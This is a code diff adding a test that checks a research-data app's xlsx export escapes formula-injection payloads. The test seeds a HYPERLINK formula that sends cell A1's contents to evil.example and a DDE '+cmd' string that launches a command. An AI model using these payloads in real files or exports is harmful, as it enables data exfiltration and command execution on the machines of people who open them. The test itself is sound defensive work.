@@ -116,3 +116,43 @@ def test_place_names_likert_labels_and_ordinary_free_text_are_still_accepted(cas
         factories.to_csv(["attitude", "county_name", "comments", "weight"], rows),
     )
     assert ds.variables.count() == 4
+
+
+# ---------------------------------------------------------------- 2. formula injection
+def test_every_text_cell_of_the_xlsx_export_that_could_run_as_a_formula_is_escaped(cast):
+    import io
+
+    from openpyxl import load_workbook
+
+    from kinga.research.exports import spreadsheet_safe
+
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    rows = [[str(i % 2), evil if i % 2 else "@SUM(1+1)", "yes" if i % 3 else "no"]
+            for i in range(40)]  # fmt: skip
+    ds = services.dataset_upload(
+        actor=cast.me_officer,
+        title=evil,
+        description="+cmd|' /C calc'!A0",
+        data=("-x.csv", factories.to_csv(["round", "grp", "knows"], rows)),
+    )
+    services.design_declare(actor=cast.me_officer, dataset=ds, values={"group_column": "grp"})
+    services.indicator_create(
+        actor=cast.me_officer,
+        dataset=ds,
+        label="=1+1",
+        variable="knows",
+        kind="proportion",
+        yes_values=["yes"],
+    )
+    content, _ctype, _name = services.report_export(actor=cast.me_officer, dataset=ds, fmt="xlsx")
+    book = load_workbook(io.BytesIO(content))
+    texts = []
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
+                if isinstance(cell.value, str):
+                    texts.append(cell.value)
+                    assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r"))
+    assert "'@SUM(1+1)" in texts and "'" + evil in texts and "'=1+1" in texts and "'-x.csv" in texts
+    assert spreadsheet_safe("\tx") == "'\tx" and spreadsheet_safe(-1.5) == -1.5
